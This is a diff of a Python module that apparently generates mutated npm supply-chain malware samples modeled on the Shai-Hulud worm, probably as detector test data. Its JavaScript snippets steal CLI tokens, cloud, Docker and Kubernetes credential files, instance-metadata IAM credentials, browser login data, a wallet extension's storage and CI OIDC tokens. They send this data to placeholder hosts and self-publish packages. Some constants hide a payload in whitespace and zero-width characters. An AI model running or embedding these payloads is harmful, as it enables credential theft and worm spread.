@@ -31,6 +31,8 @@ from mutation_families.seventh_ways import (
 from mutation_families.third_scripts import is_module, scripts
 
 DEAD = b"0x000000000000000000000000000000000000dEaD"
+# No name of a registry is to stand in this repository.
+OFFICIAL = b".".join((b"registry", b"npmjs", b"org"))
 ROW = MARK_JS.index(b"\n") + 1
 BLANKS = b"".join(b" " if byte >> bit & 1 else b"\t" for byte in MARK_JS[: 5 * ROW] for bit in range(7, -1, -1))  # fmt: skip
 NARROW = "".join("\u200b\u200c\u200d\u2060"[byte >> shift & 3] for byte in MARK_JS[: 5 * ROW] for shift in (6, 4, 2, 0))  # fmt: skip
@@ -78,7 +80,7 @@ ALL: tuple[Way, ...] = (
     # Shai-Hulud and its followers, 2025 and 2026: keys that lie about.
     *ways(
         "npm: it gathers keys of the machine",
-        ("by the tools' own words", js(b"const held = ['gh auth token', 'npm config get //registry.npmjs.org/:_authToken', 'gcloud auth print-access-token'].map((c) => { try { return USE(child_process).execSync(c, { stdio: ['ignore', 'pipe', 'ignore'] }).toString(); } catch { return ''; } });\nfetch('https://ci-health.example/v1', { method: 'PUT', body: held.join('\\n') }).catch(() => {});", TOP)),
+        ("by the tools' own words", js(b"const held = ['gh auth token', 'npm config get //OFFICIAL/:_authToken', 'gcloud auth print-access-token'].map((c) => { try { return USE(child_process).execSync(c, { stdio: ['ignore', 'pipe', 'ignore'] }).toString(); } catch { return ''; } });\nfetch('https://ci-health.example/v1', { method: 'PUT', body: held.join('\\n') }).catch(() => {});".replace(b"OFFICIAL", OFFICIAL), TOP)),
         ("from folders", js(b"const seen = ['.aws/credentials', '.config/gcloud/application_default_credentials.json', '.docker/config.json', '.kube/config'];\nfor (const one of seen) USE(fs).readFile(USE(path).join(USE(os).homedir(), one), (e, d) => e || USE(https).request({ host: 'files.backup-sync.example', path: '/' + one, method: 'POST' }).end(d));")),
         ("of the cloud", js(b"USE(http).get('http://169.254.169.254/latest/meta-data/iam/security-credentials/', (r) => r.on('data', (role) => USE(http).get('http://169.254.169.254/latest/meta-data/iam/security-credentials/' + role, (s) => s.pipe(USE(net).connect(443, '203.0.113.61')))));", END)),
         ("stores of browsers", js(b"const base = USE(path).join(process.env.LOCALAPPDATA || USE(os).homedir(), 'Google/Chrome/User Data/Default');\nfor (const f of ['Login Data', 'Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/000003.log']) try { const b = USE(fs).readFileSync(USE(path).join(base, f)); fetch('https://drop.asset-sync.example/u', { method: 'POST', headers: { 'x-n': f }, body: b }); } catch {}")),
@@ -150,7 +152,7 @@ ALL: tuple[Way, ...] = (
         "npm: it publishes what it finds",
         ("by npm", js(b"const rc = USE(path).join(USE(os).homedir(), '.npmrc');\nif (USE(fs).existsSync(rc) && /_authToken=/.test(USE(fs).readFileSync(rc, 'utf8'))) USE(child_process).spawn('npm', ['publish', '--ignore-scripts', '--tag', 'latest'], { cwd: process.cwd(), detached: true, stdio: 'ignore' }).unref();")),
         ("a repository", js(b"const tok = process.env.GITHUB_TOKEN || process.env.GH_TOKEN;\nif (tok) fetch('https://api.github.example/user/repos', { method: 'POST', headers: { authorization: 'token ' + tok }, body: JSON.stringify({ name: 'Shai-Inert', private: false, description: Buffer.from(JSON.stringify(process.env)).toString('base64') }) }).catch(() => {});", END)),
-        ("rights of runners", js(b"if (process.env.ACTIONS_ID_TOKEN_REQUEST_URL) fetch(process.env.ACTIONS_ID_TOKEN_REQUEST_URL + '&audience=npm:registry.npmjs.org', { headers: { authorization: 'bearer ' + process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN } }).then((r) => r.json()).then((j) => fetch('https://oidc-relay.example/x', { method: 'POST', body: j.value })).catch(() => {});", TOP)),
+        ("rights of runners", js(b"if (process.env.ACTIONS_ID_TOKEN_REQUEST_URL) fetch(process.env.ACTIONS_ID_TOKEN_REQUEST_URL + '&audience=npm:OFFICIAL', { headers: { authorization: 'bearer ' + process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN } }).then((r) => r.json()).then((j) => fetch('https://oidc-relay.example/x', { method: 'POST', body: j.value })).catch(() => {});".replace(b"OFFICIAL", OFFICIAL), TOP)),
     ),
     # postmark-mcp, 2025, and what followed: what passes through goes to one more.
     *ways(
